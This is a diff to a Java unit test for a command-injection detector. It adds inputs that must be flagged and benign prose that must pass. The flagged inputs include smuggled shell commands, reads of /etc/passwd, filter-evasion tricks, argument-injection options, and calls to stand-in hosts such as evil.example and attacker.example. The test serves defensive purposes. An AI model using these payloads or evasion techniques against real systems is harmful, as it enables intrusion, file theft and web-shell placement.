@@ -47,6 +47,45 @@ class CmdiDetectorTest {
 
   @ParameterizedTest
   @ValueSource(strings = {
+    ";touch /tmp/pwned", "x && mv shell.txt shell.php", "x|tee /var/www/html/s.php", "x;cut -d: -f1 /etc/group",
+    "x;cp /srv/a /tmp/b", "x;mkdir /tmp/x", "x|xargs -n1", "x;vim -c ':!id'", "x;gdb -nx -ex '!id'",
+    ";awk 'BEGIN{print 1}'", "x|dig attacker.example", "x;whois evil.example", "x;last -n 5", "x|top -b",
+    "x;lsmod", "x;tar -czf /tmp/w.tgz /var/www", "x;echo hi > /tmp/x;touch ./y",
+    ";regedit HKLM\\Software\\Microsoft", "x & runas /user:admin cmd", "x | forfiles /p c:\\windows /c \"cmd /c dir\"",
+    "x&&winget install x", "x | findstr /si password *.xml", "x & xcopy c:\\inetpub x",
+    "x;sudo -u root id", "x;nice -n 19 whoami", "x;eval id", "x;su -c id", "x;id>/tmp/x",
+    "x & timeout /t 5", "x;xterm -display 10.0.0.1:1", "x;history -c", "\";echo VAR$((5+5))",
+    "&echo TST$((1+1))", "x;if [ 1 -eq 1 ];then sleep 5;fi", "|for i in 1 2;do sleep 1;done"
+  })
+  void commandsOfEveryKindAreKnownAfterASeparator(String value) {
+    assertRule("cmdi.separator-command", value);
+  }
+
+  @ParameterizedTest
+  @ValueSource(strings = {
+    "Let the cat out of the bag; touch base with the team tomorrow.", "We met last week; last time was better.",
+    "Dig in | the food is great", "first|last", "bottom|top", "roles=admin|users", "fast|free", "golf & tee -time",
+    "Please cp me on the thread; thanks", "Date format: dd/mm/yyyy; time zone UTC", "hello; time he came",
+    "I went to the store; cut the price in half", "rock & roll; top 10 hits", "the tar pit | dig site",
+    "x; touch up the photo", "Who did it? | who knows", "Game over; timeout 30", "x; nice -looking car",
+    "Sleepy; eval is evil", "Gracias; su casa", "python -m venv .venv && source .venv/bin/activate", "x; sudo -i",
+    "a history; history of art", "Your id > 5", "Reboot the router; then ping me later",
+    "First we eat; then sleep 8 hours", "Whatever you do, do it well; then rest", "Price: 5$ (approx); echo chamber",
+    "Notes; C:\\Users\\anna\\report.docx", "Sizes: 50% & 25%",
+    "Files; C:\\Users\\anna\\whoami.txt", "Ratio 3:1; 5:2", "Ticket 4411; the file C:\\Users\\anna\\report.docx is lost"
+  })
+  void englishWordsThatNameCommandsPassInProse(String value) {
+    assertNull(detect(value), () -> "flagged: " + value);
+  }
+
+  @ParameterizedTest
+  @ValueSource(strings = {"`top`", "$(last)", "x`who`", "`cut x``dig y`", "$(xargs)"})
+  void aSessionListerAloneIsACommandOnlyInASubstitution(String value) {
+    assertRule("cmdi.substitution", value);
+  }
+
+  @ParameterizedTest
+  @ValueSource(strings = {
     "`id`", "$(whoami)", "x$(id)y", "name=`uname -a`", "$(`cat /etc/passwd`)", "`sleep 5`", "x <(id)",
     "ping -c 1 `whoami`.evil.example", "$(curl http://evil.example)", ";`echo id`"
   })
@@ -69,7 +108,8 @@ class CmdiDetectorTest {
   @ParameterizedTest
   @ValueSource(strings = {
     ";/usr/bin/id", "|/bin/ls -al", "a|usr/bin/id", "/bin/cat /etc/passwd", "x; exec /bin/sh -i",
-    "x -e /bin/bash"
+    "x -e /bin/bash", ";c:\\windows\\system32\\cmd.exe /c dir", "& %COMSPEC% /c dir",
+    "| C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -c id", "&& %SYSTEMROOT%\\system32\\net.exe user"
   })
   void aBinaryByPathInCommandPositionIsDetected(String value) {
     assertRule("cmdi.shell-path", value);
@@ -80,7 +120,10 @@ class CmdiDetectorTest {
     ";w'h'o'a'm'i", ";wh\\oami", ";who$@ami", "|w\"h\"oami", "& w^h^o^a^m^i", ";c\\at /etc/passwd",
     ";cat${IFS}/etc/passwd", ";cat$IFS$9/etc/passwd", "{cat,/etc/passwd}", ";/???/??t /???/p??s??",
     ";$'\\x63\\x61\\x74' /etc/passwd", "w'h'o'a'm'i", "wh'oami", "w\"hoami", "''whoa'mi",
-    ";cat$u /etc$u/passwd", ";c${u}at /etc/passwd", "|whoami$x"
+    ";cat$u /etc$u/passwd", ";c${u}at /etc/passwd", "|whoami$x", "x;c$!at /etc/passwd", ";$SHELL -c id",
+    ";${SHELL} -c 'id'", ";$BASH -c id", "x;c$?at /etc/passwd",
+    "x;who$$ami", "x;/bin/ca? /etc/passwd", "x;/usr/bin/wh?ami", "a=c;b=at;$a$b /etc/passwd",
+    "c1=c;c2=at;$c1$c2 /etc/passwd", "ti''me curl example.com", ";$0 -c id", "x;$0 -c 'cat /etc/passwd'"
   })
   void quoteSplittingAndBlankEvasionsAreDetected(String value) {
     assertRule("cmdi.evasion", value);
@@ -92,7 +135,8 @@ class CmdiDetectorTest {
     "passthru($_REQUEST['x'])", "eval($_POST['x'])", "x;phpinfo();", ":phpversion();", "{${system('id')}}",
     "${@print(md5(1))}", ";{$_GET[\"cmd\"]}", "os.system('id')", "subprocess.check_output(['ls'])",
     "__import__('os')", "require('child_process')", "Runtime.getRuntime().exec(cmd)", "IO.popen('id')",
-    "eval(base64_decode('aWQ='))", "SYSTEM('ls')"
+    "eval(base64_decode('aWQ='))", "SYSTEM('ls')", "%x(id)", "out = %x(cat /etc/passwd)", "open(F, \"id|\")",
+    "open(my $fh, \"-|\", \"id\")", "open(F, '|cat /etc/passwd')", "x;php7.4 -r 'system(1);'"
   })
   void codeExecutionCallsAreDetected(String value) {
     assertRule("cmdi.code-exec", value);
@@ -152,7 +196,48 @@ class CmdiDetectorTest {
 
   @ParameterizedTest
   @ValueSource(strings = {
-    "$5", "$5.00 & free shipping", "C# & F#", "a | b", "rock & roll", "Q&A", "AT&T", "Terms & Conditions; see page 3",
+    "window.open(\"https://example.com\")", "File.open(\"a.txt\")", "open(\"report.pdf\")", "Please open(the door)",
+    "I use python3.10 and php8 daily; perl5 too", "open(F, 'a|b')x", "the 2.7 release | python2.7 is old"
+  })
+  void openWithoutAPipeAndVersionedNamesInProsePass(String value) {
+    assertNull(detect(value), () -> "flagged: " + value);
+  }
+
+  @ParameterizedTest
+  @ValueSource(strings = {"x;python3.10 -c 'import os'", "x|perl5.36 -e 'print 1'"})
+  void anInterpreterNamedWithItsVersionIsTheInterpreter(String value) {
+    assertRule("cmdi.separator-command", value);
+  }
+
+  @ParameterizedTest
+  @ValueSource(strings = {
+    "-oProxyCommand=id", "-o ProxyCommand=\"sh -c id\" host", "--upload-pack=touch /tmp/x",
+    "--checkpoint=1 --checkpoint-action=exec=sh x.sh", "--use-compress-program=id", "-c core.sshCommand=id",
+    " --rsh=sh"
+  })
+  void anOptionThatNamesTheCommandToRunIsArgumentInjection(String value) {
+    assertRule("cmdi.argument-injection", value);
+  }
+
+  @ParameterizedTest
+  @ValueSource(strings = {
+    "--color=always", "-Dexec.mainClass=com.example.Main", "--help", "-5 degrees", "--- separator ---",
+    "-moz-transition: all 1s", "--user=anna --password=x", "- item one", "--exec", "-command Get-Process",
+    "Set the option -oProxyCommand=… only in your own ssh config", "-c color=red"
+  })
+  void optionsThatRunNothingPass(String value) {
+    assertNull(detect(value), () -> "flagged: " + value);
+  }
+
+  @ParameterizedTest
+  @ValueSource(strings = {";cat ${HOME:0:1}etc${HOME:0:1}passwd", "x|ls ${PWD:0:1}"})
+  void aSlashCutOutOfAVariableIsAPath(String value) {
+    assertNotNull(detect(value), () -> "not detected: " + value);
+  }
+
+  @ParameterizedTest
+  @ValueSource(strings = {
+    "$5", "$5.00 & free shipping", "Total: 100%x(2) discount", "price $0 - free", "see ${HOME:0:1} in the docs", "C# & F#", "a | b", "rock & roll", "Q&A", "AT&T", "Terms & Conditions; see page 3",
     "Don't forget the semicolon; it matters.", "Sleep 8 hours; eat well", "I need to sleep; talk tomorrow",
     "Please type your name; type carefully", "The cat sat; the dog ran", "Cats & dogs; ID card needed",
     "99.9% uptime; uptime matters", "skills: java; python; go", "Press stop; halt", "echo chamber; echo effect",
